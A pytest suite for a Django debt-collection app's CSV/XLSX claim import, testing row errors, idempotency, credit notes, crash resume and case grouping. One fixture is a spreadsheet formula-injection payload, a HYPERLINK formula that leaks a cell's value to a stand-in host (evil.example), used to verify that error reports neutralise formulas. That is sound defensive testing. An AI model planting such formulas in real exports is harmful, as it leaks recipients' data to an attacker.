"""File imports through the services: import_create → import_run, against the database.

What the intake issue asks of a file import: valid rows placed and the rest reported by row, column,
value and code (item 2); the same file twice is the same state as once, a lower amount later is a
credit note, a higher one is flagged and never applied, a missing row is never deleted (item 3); the
"all or nothing" mode, and nothing half-written when the process dies between chunks (item 4); claims
grouped into cases per debtor and creditor (item 6); the downloadable error report (item 4, "Done
means": formula injection). Invariant 1 throughout: a claim's outstanding is its ledger balance.
"""

from __future__ import annotations

import codecs
import csv
import hashlib
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from django.db.models import Sum
from openpyxl import Workbook

from relance.audit.models import AuditEvent
from relance.cases.models import Case, CaseClaim
from relance.cases.selectors import case_outstanding_minor
from relance.claims.models import Claim, Debtor
from relance.core.money import Money
from relance.intake import imports
from relance.intake.imports import import_create, import_error_report, import_run
from relance.intake.models import ImportBatch, ImportIssue
from relance.ledger.models import LedgerTransaction, Posting
from relance.ledger.services import account_balance
from relance.payments.services import payment_record
from relance.tenancy.actors import Actor

pytestmark = pytest.mark.django_db

ACTOR = Actor.system("tests")
CORPUS = Path(__file__).parent / "corpus"
TODAY = date.today()
INVOICED = (TODAY - timedelta(days=40)).strftime("%d/%m/%Y")
DUE = (TODAY - timedelta(days=10)).strftime("%d/%m/%Y")

# What a French Excel "CSV (séparateur : point-virgule)" export of the generic template looks like.
HEADER = (
    "Référence",
    "N° facture",
    "Date de facture",
    "Échéance",
    "Montant",
    "Devise",
    "Prénom",
    "Nom",
    "E-mail",
    "Téléphone",
    "Adresse",
    "Code postal",
    "Ville",
    "Pays",
)


def line(ref: str, amount: str, **changes: str) -> dict[str, str]:
    """One row of the French file; a valid claim unless ``changes`` say otherwise."""
    row = {
        "Référence": ref,
        "N° facture": f"FAC-{ref}",
        "Date de facture": INVOICED,
        "Échéance": DUE,
        "Montant": amount,
        "Devise": "EUR",
        "Prénom": "Jeanne",
        "Nom": "Martin",
        "E-mail": "jeanne.martin@example.fr",
        "Téléphone": "06 12 34 56 78",
        "Adresse": "3 rue des Lilas",
        "Code postal": "33000",
        "Ville": "Bordeaux",
        "Pays": "France",
    }
    row.update(changes)
    return row


def french_csv(rows: list[dict[str, str]], *, encoding: str = "latin-1", bom: bytes = b"") -> bytes:
    """``;``-separated, CRLF, quoted only where needed: what Excel writes."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerows([row[c] for c in HEADER] for row in rows)
    return bom + out.getvalue().encode(encoding)


def person(n: int) -> dict[str, str]:
    """A distinct debtor (own e-mail and name) for row ``n``."""
    return {"Prénom": "Paul", "Nom": f"Durand{n}", "E-mail": f"paul.durand{n}@example.fr"}


@pytest.fixture(autouse=True)
def _media(settings, tmp_path: Path) -> None:
    """ImportBatch stores the uploaded file: keep it out of the project's var/."""
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def run(world) -> Callable[..., ImportBatch]:
    """Store ``content`` as an import of ``world.creditor`` (or ``creditor``) and run it to the end."""

    def _run(
        content: bytes,
        *,
        filename: str = "creances.csv",
        mode: str = ImportBatch.Mode.VALID_ROWS,
        creditor: Any = None,
        chunk_rows: int = imports.CHUNK_ROWS,
    ) -> ImportBatch:
        batch = import_create(
            creditor=creditor or world.creditor,
            content=io.BytesIO(content),
            filename=filename,
            actor=ACTOR,
            mode=mode,
        )
        import_run(batch=batch, actor=ACTOR, chunk_rows=chunk_rows)
        batch.refresh_from_db()
        return batch

    return _run


def counts(batch: ImportBatch) -> dict[str, int]:
    return {
        "total": batch.rows_total,
        "done": batch.rows_done,
        "created": batch.rows_created,
        "unchanged": batch.rows_unchanged,
        "credited": batch.rows_credited,
        "review": batch.rows_review,
        "invalid": batch.rows_invalid,
    }


def issues(batch: ImportBatch) -> list[tuple[int, str, str, str]]:
    return list(batch.issues.order_by("row", "pk").values_list("row", "column", "value", "code"))


def balances() -> dict[str, int]:
    """Every ledger account's balance (debits minus credits), by key."""
    rows = Posting.objects.values("account__key").annotate(d=Sum("debit"), c=Sum("credit"))
    return {r["account__key"]: r["d"] - r["c"] for r in rows}


def state() -> dict[str, Any]:
    """What an import may change: rows per table and every account's balance."""
    result: dict[str, Any] = {
        model.__name__: model.objects.count() for model in (Claim, Debtor, Case, CaseClaim, Posting, LedgerTransaction)
    }
    result["balances"] = balances()
    result["ledger_sum"] = sum(result["balances"].values())
    return result


def assert_ledger_balanced() -> None:
    """Every transaction balances, hence the whole ledger does (invariant 1)."""
    unbalanced = [
        r
        for r in Posting.objects.values("transaction_id").annotate(d=Sum("debit"), c=Sum("credit"))
        if r["d"] != r["c"]
    ]
    assert unbalanced == []
    assert sum(balances().values()) == 0


def claims_of(creditor: Any) -> dict[str, int]:
    """External reference → original amount (minor units) of a creditor's claims."""
    return dict(Claim.objects.filter(creditor=creditor).values_list("external_ref", "original_amount_minor"))


# --------------------------------------------------------------------------------------------------------
# A French Excel file: valid rows placed, the rest reported precisely
# --------------------------------------------------------------------------------------------------------

FRENCH_ROWS = [
    line(
        "FR-1",
        "1 234,50",
        **{"Prénom": "Éloïse", "Nom": "Bénédicte-Núñez", "E-mail": "eloise@example.fr", "Ville": "Nîmes"},
    ),  # row 2
    line("FR-2", "99,90", **{"Prénom": "François", "Nom": "Lefèvre", "E-mail": "francois@example.fr"}),  # 3
    line("FR-3", "douze euros", **person(3)),  # 4
    line("FR-4", "0", **person(4)),  # 5
    line("FR-5", "12,00", **{**person(5), "Date de facture": "31/02/2026"}),  # 6
    line("FR-6", "12,00", **{**person(6), "Code postal": ""}),  # 7
    line("FR-7", "12,00", **{**person(7), "E-mail": "pas-un-email"}),  # 8
    line("FR-8", "12,5", **{"Prénom": "Zoé", "Nom": "Çaëlle", "E-mail": "zoe@example.fr"}),  # 9
]
FRENCH_ISSUES = [
    (4, "Montant", "douze euros", "amount.not_a_number"),
    (5, "Montant", "0", "amount.not_positive"),
    (6, "Date de facture", "31/02/2026", "date.impossible"),
    (7, "Code postal", "", "required"),
    (8, "E-mail", "pas-un-email", "email.invalid"),
]


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [("latin-1", b""), ("cp1252", b""), ("utf-8", codecs.BOM_UTF8)],
    ids=["latin-1", "cp1252", "utf-8-bom"],
)
def test_a_french_excel_csv_imports_its_valid_rows_and_reports_the_rest(run, world, encoding, bom):
    batch = run(french_csv(FRENCH_ROWS, encoding=encoding, bom=bom))

    assert batch.status == ImportBatch.Status.DONE, batch.message
    assert counts(batch) == {
        "total": 8,
        "done": 8,
        "created": 3,
        "unchanged": 0,
        "credited": 0,
        "review": 0,
        "invalid": 5,
    }
    assert issues(batch) == FRENCH_ISSUES
    assert set(batch.issues.values_list("kind", flat=True)) == {ImportIssue.Kind.ERROR}
    assert all(" / " in m for m in batch.issues.values_list("message", flat=True))  # English / français
    assert claims_of(world.creditor) == {"FR-1": 123450, "FR-2": 9990, "FR-8": 1250}
    debtors = {c.external_ref: c.debtor for c in Claim.objects.select_related("debtor")}
    assert (debtors["FR-1"].first_name, debtors["FR-1"].last_name, debtors["FR-1"].city) == (
        "Éloïse",
        "Bénédicte-Núñez",
        "Nîmes",
    )
    assert (debtors["FR-2"].first_name, debtors["FR-2"].last_name) == ("François", "Lefèvre")
    assert (debtors["FR-8"].first_name, debtors["FR-8"].last_name) == ("Zoé", "Çaëlle")
    assert debtors["FR-1"].country == "FR"
    assert debtors["FR-1"].phone == "+33612345678"
    for claim in Claim.objects.all():
        assert account_balance(key=claim.ledger_key) == claim.original_amount_minor
    assert_ledger_balanced()


def test_the_corpus_french_bom_file_imports_every_row(run, world):
    batch = run((CORPUS / "semicolon_bom_french.csv").read_bytes(), filename="semicolon_bom_french.csv")

    assert batch.status == ImportBatch.Status.DONE, batch.message
    assert (batch.rows_created, batch.rows_invalid) == (5, 0)
    assert claims_of(world.creditor) == {
        "F-001": 123450,
        "F-002": 123456,
        "F-003": 100000000,
        "F-004": 1250,
        "F-005": 123450,
    }
    company = Claim.objects.get(external_ref="F-004").debtor
    assert (company.kind, company.company_name, company.siren) == (
        "company",
        "Société Générale d'Équipement",
        "732829320",
    )
    assert Claim.objects.get(external_ref="F-005").debtor.country == "BE"


def test_import_creation_stores_the_file_with_its_sha256_and_an_audit_event(world):
    content = french_csv(FRENCH_ROWS)
    batch = import_create(creditor=world.creditor, content=io.BytesIO(content), filename="f.csv", actor=ACTOR)

    assert batch.status == ImportBatch.Status.PENDING
    assert batch.sha256 == hashlib.sha256(content).hexdigest()
    with batch.file.open("rb") as stored:
        assert stored.read() == content
    assert AuditEvent.objects.filter(verb="import.created", subject_id=str(batch.pk)).count() == 1
    assert not Claim.objects.exists()  # stored, not run


# --------------------------------------------------------------------------------------------------------
# The error report
# --------------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def report(batch: ImportBatch) -> str:
    out = io.StringIO()
    import_error_report(batch=batch, out=out)
    return out.getvalue()


def test_the_error_report_has_its_header_and_neutralises_formulas(run):
    long_formula = FORMULA + " " + "x" * 100  # too long for a name: reported with its value
    batch = run(
        french_csv(
            [
                line("X-1", "10,00", **{**person(1), "Nom": FORMULA}),  # row 2: valid, stored verbatim
                line("X-2", "10,00", **{**person(2), "Nom": long_formula}),  # 3: field.too_long
                line("X-3", "-12,50", **person(3)),  # 4: amount.not_positive, value starts with "-"
                line("X-4", "10,00", **{**person(4), "E-mail": "@evil"}),  # 5: email.invalid, starts with "@"
            ]
        )
    )

    text = report(batch)
    assert text.splitlines()[0] == "row,column,value,code,message"
    rows = list(csv.reader(io.StringIO(text)))
    assert [r[:4] for r in rows[1:]] == [
        ["3", "Nom", "'" + long_formula, "field.too_long"],
        ["4", "Montant", "'-12,50", "amount.not_positive"],
        ["5", "E-mail", "'@evil", "email.invalid"],
    ]
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)
    # Only the report is neutralised: the data keeps what the creditor sent.
    assert Claim.objects.get(external_ref="X-1").debtor.last_name == FORMULA
    assert batch.issues.get(row=3).value == long_formula
    assert batch.issues.get(row=4).value == "-12,50"


def test_the_error_report_neutralises_the_creditors_column_names_too(run):
    content = french_csv([line("C-1", "10,00", **{**person(1), "E-mail": "pas-un-email"})]).replace(
        b";E-mail;", b";=E-mail;", 1
    )
    batch = run(content)
    assert issues(batch) == [(2, "=E-mail", "pas-un-email", "email.invalid")]

    rows = list(csv.reader(io.StringIO(report(batch))))

    assert rows[1][1] == "'=E-mail"


# --------------------------------------------------------------------------------------------------------
# Idempotency and later files (item 3)
# --------------------------------------------------------------------------------------------------------


def test_importing_the_same_file_twice_is_the_same_state_as_once(run):
    content = french_csv([*FRENCH_ROWS, line("FR-9", "45,00", **person(9))])
    first = run(content)
    once = state()
    domain_events = AuditEvent.objects.exclude(verb__startswith="import.").count()

    second = run(content)

    assert state() == once
    assert once["ledger_sum"] == 0
    assert AuditEvent.objects.exclude(verb__startswith="import.").count() == domain_events
    assert counts(first)["created"] == 4
    assert counts(second) == {
        "total": 9,
        "done": 9,
        "created": 0,
        "unchanged": 4,
        "credited": 0,
        "review": 0,
        "invalid": 5,
    }
    assert issues(second) == issues(first)  # still reported, every time
    assert second.status == ImportBatch.Status.DONE


def test_a_lower_amount_in_a_later_file_is_a_credit_note(run, world):
    run(french_csv([line("A-1", "100,00"), line("A-2", "50,00", **person(2))]))
    claim = Claim.objects.get(external_ref="A-1")
    case = claim.case_link.case
    transactions = LedgerTransaction.objects.count()

    later = run(french_csv([line("A-1", "80,00"), line("A-2", "50,00", **person(2))]))

    assert (later.rows_credited, later.rows_unchanged, later.rows_review) == (1, 1, 0)
    claim.refresh_from_db()
    assert claim.original_amount_minor == 10000  # the claim row is never edited
    assert account_balance(key=claim.ledger_key) == 8000
    assert case_outstanding_minor(case=case) == 8000
    assert LedgerTransaction.objects.count() == transactions + 1
    note = LedgerTransaction.objects.get(code="claim.credit_note")
    assert sorted(note.postings.values_list("account__key", "debit", "credit")) == sorted(
        [(claim.ledger_key, 0, 2000), (f"creditor:{world.creditor.pk}:claims:EUR", 2000, 0)]
    )
    assert_ledger_balanced()
    event = AuditEvent.objects.get(verb="claim.credit_note")
    assert (event.subject_type, event.subject_id) == ("claims.claim", str(claim.pk))
    assert event.data == {"from": 10000, "to": 8000, "reduction": 2000, "refundable": 0}
    assert not later.issues.exists()

    # The credited amount is now the claim's face amount: the same file again changes nothing.
    again = run(french_csv([line("A-1", "80,00"), line("A-2", "50,00", **person(2))]))
    assert (again.rows_credited, again.rows_unchanged) == (0, 2)
    assert account_balance(key=claim.ledger_key) == 8000
    assert LedgerTransaction.objects.count() == transactions + 1


def test_a_higher_amount_in_a_later_file_is_flagged_for_review_and_not_applied(run):
    run(french_csv([line("A-1", "100,00")]))
    claim = Claim.objects.get(external_ref="A-1")
    before = state()

    later = run(french_csv([line("A-1", "150,00")]))

    assert (later.rows_review, later.rows_credited, later.rows_unchanged, later.rows_invalid) == (1, 0, 0, 0)
    assert state() == before
    assert account_balance(key=claim.ledger_key) == 10000
    review = later.issues.get()
    assert (review.kind, review.row, review.code) == (ImportIssue.Kind.REVIEW, 2, "claim.change_needs_review")
    assert "10000" in review.message and "15000" in review.message
    assert not AuditEvent.objects.filter(verb="claim.credit_note").exists()
    assert later.status == ImportBatch.Status.DONE


def test_a_row_missing_from_a_later_file_is_not_deleted(run, world):
    run(french_csv([line("A-1", "100,00"), line("A-2", "50,00", **person(2))]))
    kept = Claim.objects.get(external_ref="A-1")
    before = state()

    later = run(french_csv([line("A-2", "50,00", **person(2))]))

    assert later.rows_unchanged == 1
    assert state() == before
    assert claims_of(world.creditor) == {"A-1": 10000, "A-2": 5000}
    assert account_balance(key=kept.ledger_key) == 10000
    assert case_outstanding_minor(case=kept.case_link.case) == 10000


# --------------------------------------------------------------------------------------------------------
# Modes (item 4)
# --------------------------------------------------------------------------------------------------------


def test_all_or_nothing_with_one_bad_row_places_nothing_and_reports_it(run):
    rows = [line(f"N-{n}", "10,00", **person(n)) for n in range(1, 6)]
    rows[3] = line("N-4", "dix", **person(4))  # row 5
    before = state()

    batch = run(french_csv(rows), mode=ImportBatch.Mode.ALL_OR_NOTHING)

    assert batch.status == ImportBatch.Status.REJECTED
    assert state() == before
    assert not AuditEvent.objects.filter(verb__in=["claim.created", "case.opened", "debtor.created"]).exists()
    assert issues(batch) == [(5, "Montant", "dix", "amount.not_a_number")]
    assert (batch.rows_total, batch.rows_invalid, batch.rows_created, batch.rows_done) == (5, 1, 0, 0)
    assert "nothing imported" in batch.message
    assert AuditEvent.objects.filter(verb="import.rejected", subject_id=str(batch.pk)).count() == 1
    assert report(batch).splitlines()[1].startswith("5,Montant,dix,amount.not_a_number,")


def test_all_or_nothing_without_errors_places_everything(run, world):
    rows = [line(f"N-{n}", f"{n}0,00", **person(n)) for n in range(1, 6)]

    batch = run(french_csv(rows), mode=ImportBatch.Mode.ALL_OR_NOTHING, chunk_rows=2)

    assert batch.status == ImportBatch.Status.DONE, batch.message
    assert (batch.rows_created, batch.rows_invalid, batch.rows_done) == (5, 0, 5)
    assert claims_of(world.creditor) == {f"N-{n}": n * 1000 for n in range(1, 6)}
    assert not batch.issues.exists()
    assert_ledger_balanced()


def test_a_duplicate_reference_inside_one_file_first_wins_and_the_second_is_reported(run, world):
    batch = run(
        french_csv(
            [
                line("D-1", "10,00"),  # row 2
                line("D-2", "20,00", **person(2)),  # 3
                line("D-1", "99,00", **person(4)),  # 4: duplicate of row 2
            ]
        )
    )

    assert claims_of(world.creditor) == {"D-1": 1000, "D-2": 2000}
    assert Claim.objects.get(external_ref="D-1").debtor.last_name == "Martin"
    assert issues(batch) == [(4, "Référence", "D-1", "ref.duplicate_in_file")]
    assert "row 2" in batch.issues.get().message  # names the first row
    assert (batch.rows_created, batch.rows_invalid) == (2, 1)


# --------------------------------------------------------------------------------------------------------
# Debtors and cases (items 5 and 6)
# --------------------------------------------------------------------------------------------------------


def test_claims_of_one_debtor_for_one_creditor_are_grouped_into_one_case(run, world):
    rows = [line(f"G-{n}", "10,00") for n in range(1, 4)] + [line("G-9", "10,00", **person(9))]

    run(french_csv(rows), chunk_rows=2)  # the grouping holds across chunks
    run(french_csv([line("G-4", "10,00")]))  # and across files

    jeanne = Debtor.objects.get(email="jeanne.martin@example.fr")
    case = Case.objects.get(creditor=world.creditor, debtor=jeanne)
    assert sorted(case.caseclaim_set.values_list("claim__external_ref", flat=True)) == ["G-1", "G-2", "G-3", "G-4"]
    assert case_outstanding_minor(case=case) == 4000
    assert Case.objects.count() == 2
    assert Debtor.objects.count() == 2


def test_without_consolidation_each_claim_gets_its_own_case(run, world):
    world.creditor.consolidate_cases = False
    world.creditor.save()

    run(french_csv([line(f"G-{n}", "10,00") for n in range(1, 4)]))

    assert Debtor.objects.count() == 1
    assert Case.objects.filter(creditor=world.creditor).count() == 3
    assert all(c.caseclaim_set.count() == 1 for c in Case.objects.all())


def test_the_same_email_at_two_creditors_is_one_debtor_with_two_cases(run, world):
    run(french_csv([line("S-1", "10,00")]), creditor=world.creditor)
    run(french_csv([line("O-1", "30,00", **{"E-mail": "Jeanne.Martin@Example.fr"})]), creditor=world.other_creditor)

    debtor = Debtor.objects.get()
    assert sorted(Case.objects.filter(debtor=debtor).values_list("creditor__slug", flat=True)) == ["other", "shop"]
    assert claims_of(world.creditor) == {"S-1": 1000}
    assert claims_of(world.other_creditor) == {"O-1": 3000}


# --------------------------------------------------------------------------------------------------------
# Files that cannot be read at all
# --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("mode", ImportBatch.Mode.values)
@pytest.mark.parametrize(
    ("name", "code"),
    [("empty.csv", "empty"), ("blank_lines.csv", "empty"), ("missing_columns.csv", "Required columns missing")],
)
def test_an_unreadable_file_fails_with_a_clear_message_and_writes_nothing(run, name, code, mode):
    before = state()

    batch = run((CORPUS / name).read_bytes(), filename=name, mode=mode)

    assert batch.status == ImportBatch.Status.FAILED
    assert code in batch.message
    assert state() == before
    assert not batch.issues.exists()
    assert batch.rows_done == 0
    assert AuditEvent.objects.filter(verb="import.failed", subject_id=str(batch.pk)).count() == 1


def test_missing_columns_are_named_in_the_message(run):
    batch = run((CORPUS / "missing_columns.csv").read_bytes(), filename="missing_columns.csv")

    assert "amount" in batch.message
    assert "Colonnes obligatoires absentes" in batch.message


@pytest.mark.parametrize("mode", ImportBatch.Mode.values)
def test_a_header_only_file_is_done_with_no_rows(run, mode):
    before = state()

    batch = run((CORPUS / "header_only.csv").read_bytes(), filename="header_only.csv", mode=mode)

    assert batch.status == ImportBatch.Status.DONE
    assert counts(batch) == dict.fromkeys(counts(batch), 0)
    assert state() == before


def test_a_finished_import_run_again_does_nothing(run, world):
    batch = run(french_csv(FRENCH_ROWS))
    before, events = state(), AuditEvent.objects.count()

    again = import_run(batch=batch, actor=ACTOR)

    assert again.status == ImportBatch.Status.DONE
    assert state() == before
    assert AuditEvent.objects.count() == events
    assert batch.issues.count() == len(FRENCH_ISSUES)


# --------------------------------------------------------------------------------------------------------
# A crash between chunks, then resume
# --------------------------------------------------------------------------------------------------------


@dataclass
class CrashOnce:
    """Stands in for ``claims_place_many``: the ``at``-th call raises (a dying process), the others place."""

    real: Callable[..., Any]
    at: int
    calls: int = 0
    crashed: bool = False

    def __call__(self, **kwargs: Any) -> Any:
        self.calls += 1
        if self.calls == self.at and not self.crashed:
            self.crashed = True
            raise RuntimeError("simulated crash")
        return self.real(**kwargs)


RESUME_ROWS = [
    line("R-01", "10,00", **person(1)),  # row 2   chunk 1
    line("R-02", "20,00", **person(2)),  # 3
    line("R-03", "abc", **person(3)),  # 4       invalid
    line("R-04", "40,00"),  # 5              chunk 2 (Jeanne)
    line("R-05", "50,00"),  # 6              (Jeanne: same case)
    line("R-06", "60,00", **person(6)),  # 7
    line("R-07", "70,00", **person(7)),  # 8     chunk 3: the crash
    line("R-02", "99,00", **person(2)),  # 9     duplicate of row 3, across the crash
    line("R-09", "90,00"),  # 10             (Jeanne)
    line("R-10", "100,00", **person(10)),  # 11  chunk 4
    line("R-11", "0", **person(11)),  # 12       invalid
]


def placement_summary(creditor: Any) -> dict[str, Any]:
    """What an import leaves for one creditor, comparable across creditors."""
    claims = Claim.objects.filter(creditor=creditor)
    per_claim = {
        c.external_ref: (
            c.original_amount_minor,
            account_balance(key=c.ledger_key),
            LedgerTransaction.objects.filter(code="claim.placed", idempotency_key=f"claim.placed:{c.pk}").count(),
            AuditEvent.objects.filter(verb="claim.created", subject_id=str(c.pk)).count(),
            c.debtor.email,
        )
        for c in claims.select_related("debtor")
    }
    cases = sorted(
        sorted(Case.objects.get(pk=pk).caseclaim_set.values_list("claim__external_ref", flat=True))
        for pk in Case.objects.filter(creditor=creditor).values_list("pk", flat=True)
    )
    return {"claims": per_claim, "cases": cases}


def test_a_crash_between_chunks_keeps_whole_chunks_and_resuming_finishes_the_file(run, world, monkeypatch):
    content = french_csv(RESUME_ROWS)
    crash = CrashOnce(imports.claims_place_many, at=3)
    monkeypatch.setattr(imports, "claims_place_many", crash)
    batch = import_create(creditor=world.creditor, content=io.BytesIO(content), filename="r.csv", actor=ACTOR)

    with pytest.raises(RuntimeError, match="simulated crash"):
        import_run(batch=batch, actor=ACTOR, chunk_rows=3)

    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.RUNNING  # interrupted, resumable
    assert (batch.rows_done, batch.rows_created, batch.rows_invalid) == (6, 5, 1)
    assert claims_of(world.creditor) == {"R-01": 1000, "R-02": 2000, "R-04": 4000, "R-05": 5000, "R-06": 6000}
    assert issues(batch) == [(4, "Montant", "abc", "amount.not_a_number")]
    assert not Claim.objects.filter(external_ref="R-07").exists()  # the crashed chunk left nothing
    assert_ledger_balanced()

    # What `relance import --resume ID` does: back to pending, run again.
    ImportBatch.objects.filter(pk=batch.pk).update(status=ImportBatch.Status.PENDING)
    batch.refresh_from_db()
    resumed = import_run(batch=batch, actor=ACTOR, chunk_rows=3)

    resumed.refresh_from_db()
    assert resumed.status == ImportBatch.Status.DONE
    uninterrupted = run(content, creditor=world.other_creditor, chunk_rows=3)
    assert (
        counts(resumed)
        == counts(uninterrupted)
        == {
            "total": 11,
            "done": 11,
            "created": 8,
            "unchanged": 0,
            "credited": 0,
            "review": 0,
            "invalid": 3,
        }
    )
    assert issues(resumed) == issues(uninterrupted)
    assert placement_summary(world.creditor) == placement_summary(world.other_creditor)
    assert claims_of(world.creditor) == claims_of(world.other_creditor)
    summary = placement_summary(world.creditor)
    assert {ref: v[:4] for ref, v in summary["claims"].items()} == {
        ref: (amount, amount, 1, 1)
        for ref, amount in {
            "R-01": 1000,
            "R-02": 2000,
            "R-04": 4000,
            "R-05": 5000,
            "R-06": 6000,
            "R-07": 7000,
            "R-09": 9000,
            "R-10": 10000,
        }.items()
    }
    assert ["R-04", "R-05", "R-09"] in summary["cases"]  # Jeanne's claims, across the crash, in one case
    assert_ledger_balanced()


# --------------------------------------------------------------------------------------------------------
# XLSX through the same pipeline
# --------------------------------------------------------------------------------------------------------


def xlsx(rows: list[dict[str, str]]) -> bytes:
    """The French rows as an Excel workbook (first sheet), every cell as text."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for row in rows:
        sheet.append([row[c] for c in HEADER])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_an_xlsx_file_imports_through_the_same_pipeline(run, world):
    rows = [line("X-1", "1 234,50"), line("X-2", "douze", **person(2)), line("X-3", "12,50", **person(3))]

    batch = run(xlsx(rows), filename="creances.xlsx")

    assert batch.status == ImportBatch.Status.DONE, batch.message
    assert claims_of(world.creditor) == {"X-1": 123450, "X-3": 1250}
    assert issues(batch) == [(3, "Montant", "douze", "amount.not_a_number")]


def test_a_credit_note_below_what_was_already_paid_makes_the_excess_refundable(run, world):
    """Paid 80 of 100, then the creditor credits the invoice down to 50: 30 goes back to the debtor.

    The claim never goes below zero; the creditor is owed 50, not 80 (issue 3 item 3, issue 5).
    """
    run(french_csv([line("P-1", "100,00")]))
    claim = Claim.objects.get(external_ref="P-1")
    case = claim.case_link.case
    payment_record(
        case=case, amount=Money(8000, "EUR"), method="transfer", external_ref="bank-1", actor=Actor.system("tests")
    )

    later = run(french_csv([line("P-1", "50,00")]))

    assert later.rows_credited == 1
    assert account_balance(key=claim.ledger_key) == 0
    assert account_balance(key=f"overpayment:case:{case.pk}") == -3000  # a credit balance: owed to the debtor
    assert account_balance(key=f"creditor:{world.creditor.pk}:payable:EUR") == -5000
    assert_ledger_balanced()
    again = run(french_csv([line("P-1", "50,00")]))
    assert (again.rows_credited, again.rows_unchanged) == (0, 1)
